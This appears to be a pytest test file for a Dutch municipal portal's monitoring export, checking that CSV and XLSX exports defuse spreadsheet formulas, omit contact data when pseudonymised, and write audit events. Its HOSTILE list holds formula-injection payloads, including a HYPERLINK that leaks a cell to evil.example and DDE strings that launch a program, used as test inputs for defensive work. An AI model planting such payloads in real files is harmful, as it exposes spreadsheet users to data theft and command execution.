"""Exports: both formats, with and without names, formula-safe, audited, and on the command line."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from portal.core.models import AuditEvent
from portal.extensions import db
from portal.monitoring.exports import safe_text
from tests.monitoring.conftest import journey, left, stage

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "%0A=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_safe_text_defuses_every_formula_start():
    for value in HOSTILE:
        assert safe_text(value).startswith("'"), value
    assert safe_text("Amina") == "Amina"
    assert safe_text("a\x00b\x07c") == "abc"


@pytest.fixture
def hostile(seed, frozen):
    """A candidate whose every free text is hostile, and a specialist with a hostile name."""
    seed.a.municipal.full_name = HOSTILE[3]
    candidate = journey(
        seed.a.municipality,
        {"aanmelding": date(2026, 1, 5)},
        first_name=HOSTILE[0],
        last_name=HOSTILE[1],
        email="=cmd@test.werkbrug.nl",
        phone="+31 6 12345678",
        home_town=HOSTILE[2],
    )
    candidate.specialist_id = seed.a.municipal.id
    stage(candidate, "voortraject", date(2026, 2, 1), provider=HOSTILE[4], note=HOSTILE[5])
    left(candidate, "other", date(2026, 3, 1), reason=HOSTILE[6])
    db.session.commit()
    return candidate


def _export(client, **data):
    values = {"lijst": "kandidaten", "formaat": "csv", "namen": "met"}
    values.update(data)
    response = client.post("/monitoring/export", values)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["kandidaten", "plaatsingen", "cijfers"])
def test_no_cell_can_start_a_formula(seed, hostile, login_as, fmt, kind):
    response = _export(login_as(seed.a.municipal), lijst=kind, formaat=fmt)
    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    if kind == "kandidaten":
        assert f"'{HOSTILE[0]}" in cells
        assert f"'{HOSTILE[3]}" in cells  # the specialist


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_monitoring_list_has_the_teams_columns(seed, hostile, login_as, fmt):
    response = _export(login_as(seed.a.municipal), formaat=fmt)
    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
    header, *data = rows
    for column in (
        "Klantmanager / specialist",
        "Intakedatum",
        "Taalniveau Nederlands",
        "Route (trajectbepaling)",
        "Start voortraject",
        "Huidig traject (fase)",
        "Bemiddeling (laatste plaatsing)",
        "Uitstroomdatum",
        "Uitstroomreden",
        "Notities (laatste)",
        "Datum aanmelding",
    ):
        assert column in header, column
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    assert row["Code"] == hostile.pseudonym
    assert row["Huidig traject (fase)"] == "Uitstroom"
    expected_start = "2026-02-01" if fmt == "csv" else date(2026, 2, 1)
    assert row["Start voortraject"] == expected_start or str(row["Start voortraject"])[:10] == "2026-02-01"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_without_names_has_pseudonyms_and_no_contact_data(seed, hostile, login_as, fmt):
    response = _export(login_as(seed.a.municipal), formaat=fmt, namen="zonder")
    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
    header = rows[0]
    for column in (
        "Voornaam",
        "Achternaam",
        "E-mailadres",
        "Telefoonnummer",
        "Woonplaats",
        "Notities (laatste)",
    ):
        assert column not in header
    text = repr(rows)
    assert hostile.pseudonym in text
    assert "HYPERLINK" not in text
    assert "31 6 12345678" not in text
    assert "cmd@test" not in text
    assert "zonder-namen" in response.headers["Content-Disposition"]


def test_every_export_writes_one_audit_event_with_who_what_and_how_many(seed, hostile, login_as):
    client = login_as(seed.a.municipal)
    _export(client, namen="zonder", formaat="xlsx")
    _export(client, lijst="plaatsingen")
    events = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "monitoring.exported").order_by(AuditEvent.id)
    ).all()
    assert [(e.actor_id, e.municipality_id) for e in events] == [
        (seed.a.municipal.id, seed.a.municipality.id)
    ] * 2
    first, second = (event.detail for event in events)
    assert (first["kind"], first["format"], first["without_names"], first["rows"]) == (
        "kandidaten",
        "xlsx",
        True,
        1,
    )
    assert (second["kind"], second["format"], second["without_names"], second["rows"]) == (
        "plaatsingen",
        "csv",
        False,
        0,
    )
    assert first["period_from"] == "2025-07-01"
    assert first["period_to"] == "2026-06-15"
    listed = db.session.scalars(
        sa.select(AuditEvent).where(
            AuditEvent.action == "candidates.listed", AuditEvent.actor_id == seed.a.municipal.id
        )
    ).all()
    assert [
        event.detail["context"] for event in listed if event.detail["context"].startswith("monitoring_e")
    ] == []


def test_an_export_with_names_records_whom_it_named(seed, hostile, login_as):
    _export(login_as(seed.a.municipal))
    event = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "candidates.listed").order_by(AuditEvent.id.desc())
    ).first()
    assert event.detail["context"] == "monitoring_export"
    assert event.detail["candidate_ids"] == [hostile.id]


def test_an_empty_export_form_shows_dutch_errors(seed, login_as):
    response = login_as(seed.a.municipal).post("/monitoring/export", {"namen": ""})
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Kies wat u wilt downloaden." in html
    assert "Kies een bestandsformaat." in html
    assert (
        db.session.scalar(
            sa.select(sa.func.count())
            .select_from(AuditEvent)
            .where(AuditEvent.action == "monitoring.exported")
        )
        == 0
    )


def test_a_tampered_period_is_refused(seed, login_as):
    response = login_as(seed.a.municipal).post(
        "/monitoring/export", {"lijst": "cijfers", "formaat": "csv", "namen": "zonder", "van": "1800-01-01"}
    )
    assert "De periode klopt niet" in response.get_data(as_text=True)


# The command line ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_command_line_export(app, seed, hostile, tmp_path, fmt):
    out = tmp_path / f"lijst.{fmt}"
    runner = app.test_cli_runner()
    result = runner.invoke(
        args=[
            "export-monitoring",
            "--municipality",
            seed.a.municipality.name,
            "--format",
            fmt,
            "--out",
            str(out),
            "--without-names",
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 1 rows" in result.output
    if fmt == "csv":
        text = out.read_bytes().decode("utf-8-sig")
        assert hostile.pseudonym in text
        assert "HYPERLINK" not in text
    else:
        sheet = load_workbook(out).worksheets[0]
        assert sheet.max_row == 2
    event = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "monitoring.exported").order_by(AuditEvent.id.desc())
    ).first()
    assert event.actor_id is None
    assert event.actor_role is None
    assert event.municipality_id == seed.a.municipality.id
    assert (event.detail["via"], event.detail["rows"], event.detail["without_names"]) == ("cli", 1, True)


def test_the_command_line_refuses_an_unknown_municipality(app, tmp_path):
    result = app.test_cli_runner().invoke(
        args=[
            "export-monitoring",
            "--municipality",
            "Nergens",
            "--format",
            "csv",
            "--out",
            str(tmp_path / "x.csv"),
        ]
    )
    assert result.exit_code != 0
    assert "no municipality named" in result.output
